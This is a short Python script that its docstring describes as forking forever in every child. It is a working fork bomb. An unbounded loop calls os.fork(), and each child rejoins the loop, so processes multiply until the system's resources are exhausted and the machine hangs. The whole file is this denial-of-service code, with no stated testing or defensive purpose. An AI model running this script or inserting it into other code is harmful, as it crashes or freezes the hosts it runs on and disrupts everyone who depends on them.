"""Forks for ever, in every child too."""

import os
import time

while True:
    if os.fork() == 0:
        time.sleep(0.01)
